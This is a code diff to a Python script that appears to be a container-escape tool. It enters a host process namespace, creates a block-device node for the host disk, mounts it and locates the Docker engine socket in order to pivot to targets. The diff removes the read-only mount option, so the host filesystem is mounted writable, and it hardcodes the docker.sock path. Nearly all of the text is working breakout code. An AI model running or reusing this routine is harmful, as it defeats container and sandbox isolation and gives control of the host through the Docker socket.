@@ -10,6 +10,7 @@ import json
 import os
 import secrets
 import socket
+import stat
 import struct
 import subprocess
 import sys
@@ -310,8 +311,8 @@ def enter(pid: int, targets: Any) -> dict[str, str]:
     return {"enter": "reached", **json.loads(told)} if told else {"enter": f"no:{done.stderr[:100]}"}
 
 
-def disk(device: str, path: str) -> str:
-    """Where the engine's socket lies once the host's disk is mounted, read only, or `no:` and why.
+def disk(device: str) -> str:
+    """Where the engine's socket lies once the host's disk is mounted, or `no:` and why.
 
     A socket on a file system is the same socket by whatever mount one comes to it.
     """
@@ -319,13 +320,13 @@ def disk(device: str, path: str) -> str:
     folder.mkdir(exist_ok=True)
     major, minor = device.split(":")
     try:
-        os.mknod("/tmp/device", 0o600 | 0o060000, os.makedev(int(major), int(minor)))
+        os.mknod("/tmp/device", 0o600 | stat.S_IFBLK, os.makedev(int(major), int(minor)))
     except OSError as error:
         return f"no:{why(error)}"
     done = subprocess.run(
-        ["mount", "-o", "ro", "/tmp/device", str(folder)], capture_output=True, text=True, timeout=15, check=False
+        ["mount", "-t", "ext4", "/tmp/device", str(folder)], capture_output=True, text=True, timeout=15, check=False
     )
-    return f"{folder}{path}" if done.returncode == 0 else f"no:{done.stderr[:80].strip()}"
+    return f"{folder}/docker.sock" if done.returncode == 0 else f"no:{done.stderr[:80].strip()}"
 
 
 def main(plan: Mapping[str, Any]) -> dict[str, Any]:
@@ -349,11 +350,11 @@ def main(plan: Mapping[str, Any]) -> dict[str, Any]:
     if plan.get("host_pid"):
         found["pivots"]["nsenter"] = enter(plan["host_pid"], plan["targets"])
     if plan.get("disk") and not answering:
-        where = disk(*plan["disk"])
+        where = disk(plan["disk"])
         found["disk"] = where
         if not where.startswith("no:"):
             found["pivots"]["disk"] = pivot(where, plan["image"], plan["targets"])
-            subprocess.run(["umount", "-l", "/tmp/disk"], check=False)
+            subprocess.run(["umount", "/tmp/disk"], check=False)
     status = Path("/proc/self/status").read_text()
     found["capabilities"] = next(line.split()[1] for line in status.splitlines() if line.startswith("CapEff"))
     found["resolv"] = nameservers()
